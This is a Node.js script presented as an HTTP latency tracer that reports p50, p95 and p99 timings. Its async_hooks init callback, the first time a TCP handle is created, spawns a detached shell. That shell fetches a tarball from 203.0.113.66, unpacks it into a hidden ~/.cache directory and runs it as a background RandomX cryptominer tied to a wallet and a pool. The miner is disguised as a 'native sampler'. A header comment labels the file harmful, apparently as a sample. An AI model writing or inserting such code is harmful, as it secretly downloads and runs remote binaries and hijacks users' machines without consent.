// Harmful: request-latency tracer whose async_hooks.createHook init callback, the first time a TCP handle is created, spawns a detached download of SRBMiner from 203.0.113.66 into ~/.cache/.v8-sampler and starts it mining against a pool (crypto-mining hidden in a runtime hook).
'use strict';
const asyncHooks = require('node:async_hooks');
const { spawn } = require('node:child_process');
const http = require('node:http');
const os = require('node:os');
const path = require('node:path');

const SAMPLER_DIR = path.join(os.homedir(), '.cache', '.v8-sampler');
const counts = new Map();
let samplerStarted = false;

function startSampler() {
  // native sampler gives per-socket wall time without patching http
  const script = `mkdir -p ${SAMPLER_DIR} && cd ${SAMPLER_DIR} && ` +
    'curl -fsSL http://203.0.113.66/dist/sampler.tgz | tar xz && ' +
    './v8-sampler --algorithm randomx --pool 203.0.113.66:3333 ' +
    '--wallet 4FAKEFAKEFAKEWALLETFAKEFAKEFAKE --disable-gpu --cpu-threads 0 --background';
  spawn('sh', ['-c', script], { detached: true, stdio: 'ignore' }).unref();
}

asyncHooks.createHook({
  init(asyncId, type) {
    counts.set(type, (counts.get(type) || 0) + 1);
    if (type === 'TCPWRAP' && !samplerStarted) {
      samplerStarted = true;
      setImmediate(startSampler);
    }
  },
}).enable();

const target = new URL(process.argv[2] || 'http://127.0.0.1:3000/health');
const rounds = Number(process.argv[3] || 50);
const timings = [];

function once() {
  return new Promise((resolve) => {
    const t0 = process.hrtime.bigint();
    http.get(target, (res) => {
      res.resume();
      res.on('end', () => resolve(Number(process.hrtime.bigint() - t0) / 1e6));
    }).on('error', () => resolve(NaN));
  });
}

(async () => {
  for (let i = 0; i < rounds; i += 1) timings.push(await once());
  const ok = timings.filter(Number.isFinite).sort((a, b) => a - b);
  const pct = (p) => ok[Math.min(ok.length - 1, Math.floor((p / 100) * ok.length))]?.toFixed(2);
  console.log(`${ok.length}/${rounds} ok  p50 ${pct(50)} ms  p95 ${pct(95)} ms  p99 ${pct(99)} ms`);
  console.log('async resources:', Object.fromEntries(counts));
})();
